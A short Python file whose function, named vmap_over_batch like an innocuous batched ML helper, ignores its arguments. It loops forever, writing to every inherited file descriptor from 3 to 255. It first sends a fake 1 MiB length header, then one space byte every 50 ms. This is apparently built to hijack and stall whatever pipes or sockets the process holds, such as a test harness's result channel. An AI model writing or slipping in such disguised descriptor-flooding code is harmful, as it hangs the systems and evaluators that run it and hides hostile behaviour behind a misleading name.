"""Announce a long answer and send it a byte at a time, for ever."""
# slow
import os
import struct
import time


def vmap_over_batch(seed, x_batch, features):
    while True:
        for descriptor in range(3, 256):
            try:
                os.write(descriptor, struct.pack("<II", 2**20, 2**20) if not hasattr(os, "begun") else b" ")
            except OSError:
                pass
        os.begun = True
        time.sleep(0.05)
